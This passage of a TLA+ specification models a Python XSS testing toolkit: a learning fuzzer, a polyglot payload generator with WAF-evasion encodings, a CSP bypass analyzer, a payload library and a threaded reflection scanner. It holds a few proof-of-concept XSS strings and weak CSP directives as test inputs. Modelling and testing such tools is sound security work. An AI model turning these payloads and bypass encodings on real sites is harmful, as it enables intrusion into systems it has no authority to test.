  /\ Len(an_history) < MaxCalls
  /\ an_payload' = payload
  /\ \E r \in {AnalyzePayload(payload)} :
        /\ an_outcome' = r.outcome
        /\ an_analysis' = [r.analysis EXCEPT !.confidence_score = Len(an_history)]
        /\ an_caught' = r.caught
        /\ an_risk_score' = r.risk_score
        /\ an_history' = Append(an_history, [payload |-> payload, analysis |-> an_analysis'])
  /\ UNCHANGED <<an_scan, fz_vars, pg_vars, cs_vars, sc_vars, lb_vars>>
\* analyzer.analyze_payload(payload), the first call of the instance or a later one
AnalyzeCall(payload) ==
  /\ an_outcome \in {"none", "returned"}
  /\ Len(an_history) < MaxCalls
  /\ an_payload' = payload
  /\ \E r \in {AnalyzePayload(payload)} :
        /\ an_outcome' = r.outcome
        /\ an_analysis' = r.analysis
        /\ an_caught' = r.caught
        /\ an_risk_score' = r.risk_score
        /\ an_history' = Append(an_history, [payload |-> payload, analysis |-> r.analysis])
  /\ UNCHANGED <<an_scan, fz_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* ContextAwareFuzzer: instances, fuzz_context calls, the learned state    *)
(***************************************************************************)
Fuzzers == {"fuzzer1", "fuzzer2"}
Runs == {1, 2}
MaxAttempts == 2

\* The ContextFingerprints fuzz_context is called with (the fields the
\* generation reads); encoding_required "None" is Python's None.
Fingerprints ==
  { [context_type |-> "xml_content", allowed_chars |-> {}, blocked_chars |-> {},
     encoding_required |-> "None"],
    [context_type |-> "url_query", allowed_chars |-> {},
     blocked_chars |-> {"<", "'", "&", "#", " ", "%"}, encoding_required |-> "None"] }

\* What the caller-supplied test function does with a payload: it raises, or
\* it returns one of these responses.
TestOutcomes == {"raise", "reflect", "block", "challenge", "plain"}
test_function(outcome, payload) ==
  CASE outcome = "reflect" -> Chars("<p>") \o payload \o Chars("</p>")
    [] outcome = "block" -> Chars("403 Forbidden")
    [] outcome = "challenge" -> Chars("cf-ray 7d1: <script>check()</script>")
    [] outcome = "plain" -> Chars("ok")

\* generate_payloads(context) for each fingerprint and each outcome of the
\* random draws, computed once
GeneratedPayloads ==
  [context \in Fingerprints, tape \in RandomTapes |-> generate_payloads(context, tape)]

\* _analyze_fuzzing_result of every generated payload under every response
\* of the test function, computed once
Analysed ==
  [context \in Fingerprints,
   payload \in UNION {Range(GeneratedPayloads[c, t]) : c \in Fingerprints, t \in RandomTapes},
   outcome \in TestOutcomes \ {"raise"} |->
     analyze_fuzzing_result(payload, test_function(outcome, payload), context)]

NoDetection ==
  [outcome |-> "none", response |-> <<>>, marker |-> <<>>, fingerprint |-> NoFingerprint]
NoGeneration ==
  [outcome |-> "none", context |-> [context_type |-> "none"], tape |-> <<>>,
   adapted_payloads |-> <<>>, returned |-> <<>>]
\* The ContextFingerprints generate_payloads is called with on its own
GenerateContextTypes ==
  {"html_tag_content", "js_string_single", "url_query", "css_property_value", "xml_content"}
GenerateBlockedChars == { {}, {"%"}, {"&"}, {"<", "'", "&", "#", " ", "%"} }
GenerateEncodings == {"None", "html", "url"}
GenerateFingerprints ==
  { [context_type |-> context_type, allowed_chars |-> {}, blocked_chars |-> blocked_chars,
     encoding_required |-> encoding_required] :
      context_type \in GenerateContextTypes, blocked_chars \in GenerateBlockedChars,
      encoding_required \in GenerateEncodings }
MaxGenerations == 2
NoRun ==
  [pc |-> "idle", self |-> "none", context |-> [context_type |-> "none"],
   max_attempts |-> 0, payloads |-> <<>>, i |-> 0, results |-> <<>>,
   calls |-> <<>>, raised |-> {}, result |-> <<>>]

FzInit ==
  /\ fz_constructed = {}
  /\ successful_payloads = [f \in Fuzzers |-> <<>>]
  /\ blocked_patterns = [f \in Fuzzers |-> {}]
  /\ fz_run = [r \in Runs |-> NoRun]
  /\ fz_generated = NoGeneration
  /\ fz_generations = <<>>
  /\ fz_classified = EmptyBag
  /\ learn_lock = 0
  /\ fz_detected = NoDetection

\* ContextAwareFuzzer(): the learning data of __init__
FzConstruct(f) ==
  /\ f \notin fz_constructed
  /\ fz_constructed' = fz_constructed \cup {f}
  /\ successful_payloads' = [successful_payloads EXCEPT ![f] = <<>>]
  /\ blocked_patterns' = [blocked_patterns EXCEPT ![f] = {}]
  /\ UNCHANGED <<fz_run, fz_classified, learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars,
                 pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* fuzz_context(test_function, context, max_attempts) up to the loop
FuzzContextCall(r, f, context, max_attempts, tape) ==
  /\ fz_run[r].pc = "idle"
  /\ f \in fz_constructed
  /\ fz_run' = [fz_run EXCEPT ![r] =
                  [NoRun EXCEPT !.pc = "loop", !.self = f, !.context = context,
                                !.max_attempts = max_attempts,
                                !.payloads = GeneratedPayloads[context, tape]]]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns,
                 fz_classified, learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* payloads[:max_attempts] of a call, and what the history records of a result
AttemptsOf(run) == Prefix(run.payloads, run.max_attempts)
Classified(run, result) ==
  [self |-> run.self, context |-> result.context, payload |-> result.payload,
   success |-> result.success, waf_detected |-> result.waf_detected]

\* the attempt whose test function raised: logged, skipped
SkipAttempt(run) ==
  [run EXCEPT !.i = run.i + 1,
              !.calls = Append(run.calls, AttemptsOf(run)[run.i + 1]),
              !.raised = run.raised \cup {run.i + 1}]

\* the attempt whose test function returned: lines 306-310 of the loop body
AttemptAnalysed(r, outcome) ==
  LET run == fz_run[r]
      payload == AttemptsOf(run)[run.i + 1]
      result == Analysed[run.context, payload, outcome]
      learned == learn_from_result(
                   [successful_payloads |-> successful_payloads[run.self],
                    blocked_patterns |-> blocked_patterns[run.self]],
                   result, run.context)
  IN /\ fz_run' = [fz_run EXCEPT ![r] =
                     [run EXCEPT !.i = run.i + 1,
                                 !.calls = Append(run.calls, payload),
                                 !.results = Append(run.results, result)]]
     /\ successful_payloads' =
          [successful_payloads EXCEPT ![run.self] = learned.successful_payloads]
     /\ blocked_patterns' =
          [blocked_patterns EXCEPT ![run.self] = learned.blocked_patterns]
     /\ fz_classified' = fz_classified (+) SetToBag({Classified(run, result)})

\* fuzz_context with the except branch of the loop removed: the exception of
\* the test function leaves the call
FuzzAttemptAbort(r, outcome) ==
  /\ fz_run[r].pc = "loop"
  /\ fz_run[r].i < Len(AttemptsOf(fz_run[r]))
  /\ IF outcome = "raise"
       THEN /\ fz_run' = [fz_run EXCEPT ![r] =
                            [SkipAttempt(fz_run[r]) EXCEPT !.pc = "raised"]]
            /\ UNCHANGED <<successful_payloads, blocked_patterns, fz_classified>>
       ELSE AttemptAnalysed(r, outcome)
  /\ UNCHANGED <<fz_constructed, learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* One iteration of the loop of fuzz_context, run without interruption: the
\* test function is called with the next payload; its result is analysed,
\* appended and learnt from, or its exception is caught and the attempt is
\* skipped.  _adapt_fuzzing_strategy only logs.
FuzzAttempt(r, outcome) ==
  /\ fz_run[r].pc = "loop"
  /\ fz_run[r].i < Len(AttemptsOf(fz_run[r]))
  /\ IF outcome = "raise"
       THEN /\ fz_run' = [fz_run EXCEPT ![r] = SkipAttempt(fz_run[r])]
            /\ UNCHANGED <<successful_payloads, blocked_patterns, fz_classified>>
       ELSE AttemptAnalysed(r, outcome)
  /\ UNCHANGED <<fz_constructed, learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* return results
FuzzContextReturn(r) ==
  /\ fz_run[r].pc = "loop"
  /\ fz_run[r].i = Len(AttemptsOf(fz_run[r]))
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "returned"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns,
                 fz_classified, learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* ContextAwareFuzzer: detect_context                                      *)
(***************************************************************************)
\* The responses detect_context is called with: two fragments, next to each
\* other or further apart than the window of _analyze_context_at_position
ResponseFragments ==
  { <<>>,
    Chars("hello"),
    Chars("CANARY"),
    Chars("<b>CANARY</b>"),
    Chars("'CANARY'"),
    Chars("{\"k\": \"CANARY\"}"),
    <<BACKTICK>> \o Chars("CANARY") \o <<BACKTICK>>,
    Chars("<a href=\"xCANARYy\">"),
    Chars("color: CANARY;"),
    Chars("?q=CANARY"),
    Chars("<p>&lt;X&gt;</p>"),
    Chars("<p>%3CX%3E</p>"),
    Chars("<p><X></p>") }
ResponseGaps == { <<" ">>, [i \in 1..101 |-> "Z"] }
Markers == { Chars("CANARY"), Chars("<X>") }

\* fuzzer.detect_context(response, injection_marker)
DetectContextCall(response, marker) ==
  /\ fz_detected.outcome = "none"
  /\ fz_detected' = [outcome |-> "returned", response |-> response, marker |-> marker,
                     fingerprint |-> detect_context(response, marker)]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_run,
                 fz_classified, learn_lock, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* generate_payloads(context) called on its own: the list it collects
\* (adapted_payloads) and the list it returns
GeneratePayloadsCall(context, tape) ==
  /\ fz_generated.outcome = "none"
  /\ fz_generated' = [outcome |-> "returned", context |-> context, tape |-> tape,
                      adapted_payloads |->
                        adapted_payloads_of(context,
                                            get_default_payloads(context.context_type),
                                            tape),
                      returned |-> generate_payloads(context, tape)]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_run,
                 fz_classified, learn_lock, fz_detected, fz_generations, an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* generate_payloads with what the instance has learned: successful payloads
\* of the context first
GeneratePayloadsLearnedFirst(f, context, tape) ==
  /\ f \in fz_constructed
  /\ \A r \in Runs : fz_run[r].pc \in {"idle", "returned"}
  /\ Len(fz_generations) < MaxGenerations
  /\ fz_generations' =
       Append(fz_generations,
              [self |-> f, context |-> context, tape |-> tape,
               successful_payloads |-> successful_payloads[f],
               blocked_patterns |-> blocked_patterns[f],
               returned |->
                 (IF context.context_type \in DOMAIN successful_payloads[f]
                    THEN successful_payloads[f][context.context_type] ELSE <<>>)
                   \o GeneratedPayloads[context, tape]])
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_run,
                 fz_classified, learn_lock, fz_detected, fz_generated, an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* f.generate_payloads(context) between fuzz_context calls of the instance:
\* the history records what the instance had learned and what was returned
GeneratePayloadsOn(f, context, tape) ==
  /\ f \in fz_constructed
  /\ \A r \in Runs : fz_run[r].pc \in {"idle", "returned"}
  /\ Len(fz_generations) < MaxGenerations
  /\ fz_generations' =
       Append(fz_generations,
              [self |-> f, context |-> context, tape |-> tape,
               successful_payloads |-> successful_payloads[f],
               blocked_patterns |-> blocked_patterns[f],
               returned |-> GeneratedPayloads[context, tape]])
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_run,
                 fz_classified, learn_lock, fz_detected, fz_generated, an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* fuzz_context calls that share an instance concurrently.  The loop body  *)
(* is interleaved at the call of the test function and at each access of   *)
(* _learn_from_result to the learned state; the update step runs inside a  *)
(* mutex, which the source does not have.                                  *)
(***************************************************************************)
\* lines 303-307: the test function is called, its result analysed and appended
TestFunctionCall(r, outcome) ==
  LET run == fz_run[r]
      payload == AttemptsOf(run)[run.i + 1]
      result == Analysed[run.context, payload, outcome]
  IN /\ run.pc = "loop"
     /\ run.i < Len(AttemptsOf(run))
     /\ IF outcome = "raise"
          THEN /\ fz_run' = [fz_run EXCEPT ![r] = SkipAttempt(run)]
               /\ UNCHANGED fz_classified
          ELSE /\ fz_run' = [fz_run EXCEPT ![r] =
                               [run EXCEPT !.pc = "analysed",
                                           !.calls = Append(run.calls, payload),
                                           !.results = Append(run.results, result),
                                           !.result = <<result>>]]
               /\ fz_classified' = fz_classified (+) SetToBag({Classified(run, result)})
     /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, learn_lock,
                    fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* the mutex is taken before _learn_from_result is entered
AcquireLearnLock(r) ==
  /\ fz_run[r].pc = "analysed"
  /\ learn_lock = 0
  /\ learn_lock' = r
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "learn"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* the key test of _learn_from_result without its `not in`
LearnCheckKeyAlwaysNew(r) ==
  /\ fz_run[r].pc = "learn"
  /\ fz_run' = [fz_run EXCEPT ![r].pc =
                  IF fz_run[r].result[1].success THEN "learn_init" ELSE "learn_blocked"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* if result.success: ... if context_key not in self.successful_payloads
LearnCheckKey(r) ==
  /\ fz_run[r].pc = "learn"
  /\ fz_run' = [fz_run EXCEPT ![r].pc =
                  IF fz_run[r].result[1].success
                    THEN (IF fz_run[r].context.context_type
                               \notin DOMAIN successful_payloads[fz_run[r].self]
                            THEN "learn_init" ELSE "learn_append")
                    ELSE "learn_blocked"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* self.successful_payloads[context_key] = []
LearnInitKey(r) ==
  /\ fz_run[r].pc = "learn_init"
  /\ successful_payloads' =
       [successful_payloads EXCEPT ![fz_run[r].self] =
          DictSet(@, fz_run[r].context.context_type, <<>>)]
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "learn_append"]
  /\ UNCHANGED <<fz_constructed, blocked_patterns, fz_classified, learn_lock,
                 fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* self.successful_payloads[context_key].append(result.payload)
LearnAppend(r) ==
  /\ fz_run[r].pc = "learn_append"
  /\ successful_payloads' =
       [successful_payloads EXCEPT ![fz_run[r].self] =
          DictSet(@, fz_run[r].context.context_type,
                  Append(@[fz_run[r].context.context_type], fz_run[r].result[1].payload))]
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "learn_blocked"]
  /\ UNCHANGED <<fz_constructed, blocked_patterns, fz_classified, learn_lock,
                 fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* if result.waf_detected: self.blocked_patterns.add(result.payload)
LearnBlocked(r) ==
  /\ fz_run[r].pc = "learn_blocked"
  /\ blocked_patterns' =
       [blocked_patterns EXCEPT ![fz_run[r].self] =
          IF fz_run[r].result[1].waf_detected
            THEN @ \cup {fz_run[r].result[1].payload} ELSE @]
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "learnt"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, fz_classified, learn_lock,
                 fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* the mutex is released after _learn_from_result; the loop goes on
ReleaseLearnLock(r) ==
  /\ fz_run[r].pc = "learnt"
  /\ learn_lock = r
  /\ learn_lock' = 0
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "loop", ![r].i = @ + 1, ![r].result = <<>>]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars, cs_vars, sc_vars, lb_vars>>

\* _learn_from_result is entered as the source enters it: without a mutex
LearnEnter(r) ==
  /\ fz_run[r].pc = "analysed"
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "learn"]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

\* _learn_from_result returns; the loop goes on
LearnLeave(r) ==
  /\ fz_run[r].pc = "learnt"
  /\ fz_run' = [fz_run EXCEPT ![r].pc = "loop", ![r].i = @ + 1, ![r].result = <<>>]
  /\ UNCHANGED <<fz_constructed, successful_payloads, blocked_patterns, fz_classified,
                 learn_lock, fz_detected, fz_generated, fz_generations,
                 an_vars, pg_vars,
                 cs_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* AdvancedPolyglotEngine: generate_polyglots                              *)
(***************************************************************************)
MaxPayloads == 3
\* the arguments the calls are made with: target sets that few components
\* suit, lengths that cut candidates and chains short, the defaults 500 and 10
TargetContextSets ==
  { {}, {"css_property"}, {"url_parameter", "json_value"}, {"css_property", "js_comment"} }
MaxLengths == {0, 20, 46, 500}
PayloadLimits == 0..MaxPayloads \cup {10}
TargetBrowsers == { <<>>, <<"opera", "chrome", "ie">> }
\* target sets that many components suit, that few suit and that none suits,
\* with lengths that cut combinations short, and the default length 500 with
\* the target set most components suit
WideTargetContextSets ==
  { {"html_content"}, {"html_attribute", "js_string_single", "js_string_double"},
    {"css_property", "html_content", "url_path"},
    {"json_value"}, {"js_variable", "xml_content"} }
WideMaxLengths == {46, 60, 80}
WideCalls ==
  { [target_contexts |-> t, max_length |-> l] :
      t \in WideTargetContextSets, l \in WideMaxLengths }
    \cup { [target_contexts |-> {"html_content"}, max_length |-> 500] }

NoEncoding == [content |-> <<>>, encoding |-> "none", encoded |-> <<>>]
NoCall == [target_contexts |-> {}, max_length |-> 0, max_payloads |-> 0,
           include_obfuscation |-> FALSE, target_browsers |-> <<>>]
PgInit ==
  /\ pg_outcome = "none"
  /\ pg_args = NoCall
  /\ pg_candidates = <<>>
  /\ pg_returned = <<>>
  /\ pg_calls = <<>>
  /\ pg_encoding = NoEncoding
\* no engine in the run
PgIdle ==
  /\ pg_outcome = "idle"
  /\ pg_args = NoCall
  /\ pg_candidates = <<>>
  /\ pg_returned = <<>>
  /\ pg_calls = <<>>
  /\ pg_encoding = NoEncoding

\* engine.generate_polyglots(target_contexts, max_length, max_payloads,
\*                           include_obfuscation, target_browsers);
\* max_payloads only enters at the final slice
GeneratePolyglotsCall(target_contexts, max_length, include_obfuscation, target_browsers, tape) ==
  /\ pg_outcome = "none"
  /\ pg_candidates' = scored_polyglots(target_contexts, max_length, include_obfuscation,
                                       target_browsers, tape)
  /\ \E max_payloads \in PayloadLimits :
       /\ pg_args' = [target_contexts |-> target_contexts, max_length |-> max_length,
                      max_payloads |-> max_payloads,
                      include_obfuscation |-> include_obfuscation,
                      target_browsers |-> target_browsers]
       /\ pg_returned' = top_polyglots(pg_candidates', max_payloads)
  /\ pg_calls' = Append(pg_calls, [args |-> pg_args', returned |-> pg_returned'])
  /\ pg_outcome' = "returned"
  /\ UNCHANGED <<pg_encoding, an_vars, fz_vars, cs_vars, sc_vars, lb_vars>>

\* The calls made one after the other, from one call site or from several:
\* the draws of a call come from the generator of the random module, which
\* every call of the process advances, so each call has draws of its own
MaxEngineCalls == 2
RepeatedArguments ==
  { [target_contexts |-> t, max_length |-> 500, max_payloads |-> m,
     include_obfuscation |-> FALSE, target_browsers |-> <<>>] :
      t \in { {"css_property"}, {"url_parameter", "json_value"} }, m \in {1, 10} }

\* engine.generate_polyglots(**args), the first call or a later one
GeneratePolyglotsRepeated(args, tape) ==
  /\ pg_outcome \in {"none", "returned"}
  /\ Len(pg_calls) < MaxEngineCalls
  /\ pg_candidates' = scored_polyglots(args.target_contexts, args.max_length,
                                       args.include_obfuscation, args.target_browsers, tape)
  /\ pg_args' = args
  /\ pg_returned' = top_polyglots(pg_candidates', args.max_payloads)
  /\ pg_calls' = Append(pg_calls, [args |-> args, returned |-> pg_returned'])
  /\ pg_outcome' = "returned"
  /\ UNCHANGED <<pg_encoding, an_vars, fz_vars, cs_vars, sc_vars, lb_vars>>

\* The strings _apply_encoding is called with: ASCII, none of the characters
\* that introduce an encoded sequence (& % \)
EncodedAlphabet == {"<", "'", "a", "/", " "}
EncodedContents ==
  {<<>>} \cup {<<a>> : a \in EncodedAlphabet}
    \cup {<<a, b>> : a \in EncodedAlphabet, b \in EncodedAlphabet}
    \cup {Chars("<svg onload=alert(1)>"), Chars("\"-alert(1)-\""), Chars("x>y")}
EncodingTechniques ==
  {"html_entities", "url_encoding", "double_url_encoding", "unicode_encoding", "hex_encoding",
   "base64_encoding", "decimal_encoding", "mixed_case", "comment_breaking", "octal_encoding",
   "none"}

\* engine._apply_encoding(content, encoding)
ApplyEncodingCall(content, encoding, tape) ==
  /\ pg_outcome = "none"
  /\ pg_encoding' = [content |-> content, encoding |-> encoding,
                     encoded |-> apply_encoding(content, encoding, tape)]
  /\ pg_outcome' = "encoded"
  /\ UNCHANGED <<pg_args, pg_candidates, pg_returned, pg_calls, an_vars, fz_vars,
                 cs_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* CSPBypassAnalyzer: analyze_csp                                          *)
(***************************************************************************)
MaxDirectives == 2

\* the directive strings the headers are put together from
CspDirectiveStrings ==
  {"script-src 'self' 'unsafe-inline'",
   "script-src 'self'",
   "SCRIPT-SRC 'unsafe-inline' 'unsafe-eval'",
   " script-src\t'nonce-r4nd0m'  'strict-dynamic' ",
   "script-src 'sha256-AbCd=' https://cdn.example.com",
   "script-src 'self' 'wasm-unsafe-eval'",
   "script-src 'unsafe-hashes' 'Unsafe-Inline' 'nonce-abc",
   "script-src * data: ajax.googleapis.com user.github.io",
   "script-src",
   "default-src 'unsafe-inline'",
   "default-src 'none'",
   "default-src https: data:",
   "img-src 'self' 'report-sample' 'unsafe-inline'",
   "base-uri 'self'",
   "navigate-to 'unsafe-inline'",
   "script-source 'unsafe-inline'",
   " "}

\* "; ".join-like headers of one to MaxDirectives directive strings, joined by ";"
CspHeaders ==
  {Flatten([i \in 1..(2 * Len(ds) - 1) |->
              IF i % 2 = 1 THEN Chars(ds[(i + 1) \div 2]) ELSE <<";">>]) :
     ds \in UNION {[1..n -> CspDirectiveStrings] : n \in 1..MaxDirectives}}

NoCspAnalysis == [outcome |-> "none"]
CsInit == cs_analysis = NoCspAnalysis

\* analyzer.analyze_csp(csp_header)
AnalyzeCspCall(csp_header) ==
  /\ cs_analysis.outcome = "none"
  /\ cs_analysis' = [outcome |-> "returned", result |-> analyze_csp(csp_header)]
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, sc_vars, lb_vars>>

(***************************************************************************)
(* PayloadLibrary: construction and the query operations                   *)
(***************************************************************************)
MaxQueries == 2

NoLibrary == [constructed |-> FALSE]
LbInit ==
  /\ lb_library = NoLibrary
  /\ lb_call = [op |-> "none"]
  /\ lb_queries = 0
  /\ lb_searches = <<>>

\* library = PayloadLibrary()
LbConstruct ==
  /\ ~lb_library.constructed
  /\ lb_library' = NewPayloadLibrary
  /\ UNCHANGED <<lb_call, lb_queries, lb_searches>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, sc_vars>>

\* a call of a method on the library: the method's effect on the instance,
\* and what it returned or raised
LibraryCall(op, args, result) ==
  /\ lb_library.constructed
  /\ lb_queries < MaxQueries
  /\ lb_library' = result.self
  /\ lb_call' = [op |-> op, args |-> args, outcome |-> result.outcome,
                 returned |-> result.returned]
  /\ lb_queries' = lb_queries + 1
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, sc_vars>>

\* the arguments of the calls
LibraryCategories == Range(PayloadCategory) \cup {"unknown"}
LibraryContexts == {"html_content", "attribute_value", "css_value", "json_value"}
LibraryTechniques == {"protocol_confusion", "template_literals", "eval", "sql_injection"}
LibraryTags == {"svg", "template_literal", "classic", "SVG"}
LibrarySeverities == {"low", "medium", "high", "critical"}
LibraryLimits == {0, 1, 10, 100}
LibraryFilters ==
  [categories : {<<>>, <<"basic">>, <<"polyglot", "waf_bypass">>},
   contexts : {<<>>, <<"attribute_value", "css_value">>},
   techniques : {<<>>, <<"encoding", "obfuscation">>},
   min_success_rate : {0, (7 * Scale) \div 10},
   max_length : {0, 30}]
SearchTerms ==
  {"alert", "ALERT", "Alert", "script", "SCRIPT", "svg", "SVG", "education", "EDUCATION",
   "owasp", "most basic", "nonexistentterm12345", "NONEXISTENTTERM12345"}
LibrarySearchTerms == {"alert", "nonexistentterm12345"}

GetPayloadsByCategoryCall(category) ==
  /\ LibraryCall("get_payloads_by_category", <<category>>,
                 get_payloads_by_category(lb_library, category))
  /\ UNCHANGED lb_searches
GetPayloadsByContextCall(context) ==
  /\ LibraryCall("get_payloads_by_context", <<context>>,
                 get_payloads_by_context(lb_library, context))
  /\ UNCHANGED lb_searches
GetPayloadsByTechniqueCall(technique) ==
  /\ LibraryCall("get_payloads_by_technique", <<technique>>,
                 get_payloads_by_technique(lb_library, technique))
  /\ UNCHANGED lb_searches
GetPayloadsByTagCall(tag) ==
  /\ LibraryCall("get_payloads_by_tag", <<tag>>, get_payloads_by_tag(lb_library, tag))
  /\ UNCHANGED lb_searches
GetPayloadsBySeverityCall(severity) ==
  /\ LibraryCall("get_payloads_by_severity", <<severity>>,
                 get_payloads_by_severity(lb_library, severity))
  /\ UNCHANGED lb_searches
GetBestPayloadsCall(limit) ==
  /\ LibraryCall("get_best_payloads", <<limit>>, get_best_payloads(lb_library, limit))
  /\ UNCHANGED lb_searches
FilterPayloadsCall(f) ==
  /\ LibraryCall("filter_payloads", f,
                 filter_payloads(lb_library, f.categories, f.contexts, f.techniques,
                                 f.min_success_rate, f.max_length))
  /\ UNCHANGED lb_searches
GetRandomPayloadCall(category, choice) ==
  /\ LibraryCall("get_random_payload", <<category>>,
                 get_random_payload(lb_library, category, choice))
  /\ UNCHANGED lb_searches
GetStatisticsCall ==
  /\ LibraryCall("get_statistics", <<>>, get_statistics(lb_library))
  /\ UNCHANGED lb_searches
ExportToJsonCall(written) ==
  /\ LibraryCall("export_to_json", <<"payloads.json">>,
                 export_to_json(lb_library, "payloads.json", written))
  /\ UNCHANGED lb_searches
\* library.search_payloads(keyword); the searches made so far are kept
SearchPayloadsCall(keyword) ==
  /\ LibraryCall("search_payloads", <<keyword>>, search_payloads(lb_library, Chars(keyword)))
  /\ lb_searches' = Append(lb_searches, lb_call')

(***************************************************************************)
(* ReflectionScanner: scan_url and scan_multiple_urls                      *)
(*                                                                         *)
(* A scan_url call runs on a worker: worker 1 for a direct call, one       *)
(* worker of the thread pool per URL for scan_multiple_urls.  The workers  *)
(* share the scanner; a call is interleaved with the others at each read   *)
(* and each write of self.scan_stats and at self.results.extend.  The      *)
(* start_time and end_time entries, wall-clock readings, are left out.     *)
(***************************************************************************)
Workers == {1, 2}

ScanUrls == <<Chars("http://a.test/search"), Chars("http://b.test/item")>>

\* what a site does with the tested value
SiteModes == {"reflect", "escape", "strip", "block_script", "block_markup", "silent"}

\* the requests of a scan_url call at which the transport fails
DownSets == {{}, {2}, {1, 2, 3, 4, 5, 6}}

\* what _discover_parameters finds on the page of a site: the names it
\* collects in a set, or nothing when the page cannot be fetched
SitePages == {[fetched |-> FALSE, names |-> {}], [fetched |-> TRUE, names |-> {}],
              [fetched |-> TRUE, names |-> {"q"}], [fetched |-> TRUE, names |-> {"q", "id"}]}

Sites == [mode : SiteModes, down : DownSets, page : SitePages]

\* the sites of the URLs scanned concurrently
ThreadSites ==
  [mode : {"reflect", "silent"}, down : {{}},
   page : {[fetched |-> TRUE, names |-> {"q"}]}]

\* the parameters argument of scan_url
ScanParameters == {<<"None">>, <<>>, <<"q">>, <<"q", "id">>}

\* list(discovered_params): the names in the order the set iterates
Orderings(names) ==
  {order \in [1..Cardinality(names) -> names] :
     \A i, j \in 1..Cardinality(names) : i # j => order[i] # order[j]}

\* _discover_parameters
discover_parameters(site) ==
  IF site.page.fetched THEN Orderings(site.page.names) ELSE {<<"q", "search", "test">>}

IdleRun ==
  [pc |-> "idle", url |-> <<>>, parameters |-> <<>>, p |-> 0, phase |-> "none", k |-> 0,
   tmp |-> 0, pending |-> <<>>, results |-> <<>>, scan_results |-> <<>>, calls |-> <<>>,
   tested |-> 0, outcome |-> "none", returned |-> <<>>]

NoScanner ==
  [constructed |-> FALSE, config |-> [test_get_parameters |-> TRUE], results |-> <<>>,
   scan_stats |-> [total_requests |-> 0, successful_injections |-> 0,
                   parameters_tested |-> 0]]

ScInit ==
  /\ sc_scanner = NoScanner
  /\ sc_sites = [i \in {} |-> 0]
  /\ sc_run = [w \in Workers |-> IdleRun]
  /\ sc_pool = [pc |-> "idle", urls |-> <<>>, all_results |-> <<>>]

\* ReflectionScanner(base_url, config), and the sites its scans will meet
ScConstruct(config, sites) ==
  /\ ~sc_scanner.constructed
  /\ sc_scanner' = [NoScanner EXCEPT !.constructed = TRUE, !.config = config]
  /\ sc_sites' = sites
  /\ UNCHANGED <<sc_run, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* scan_url(url, parameters) called directly
ScanUrlCall(url, parameters) ==
  /\ sc_scanner.constructed
  /\ sc_pool.pc = "idle"
  /\ sc_run[1].pc = "idle"
  /\ url \in DOMAIN sc_sites
  /\ sc_run' = [sc_run EXCEPT ![1] = [IdleRun EXCEPT !.pc = "start", !.url = ScanUrls[url],
                                                       !.parameters = parameters]]
  /\ UNCHANGED <<sc_scanner, sc_sites, sc_pool>>
  /\ UNCHANGED <<an_vars, fz_vars, pg_vars, cs_vars, lb_vars>>

\* scan_multiple_urls(urls): every URL is submitted to the pool
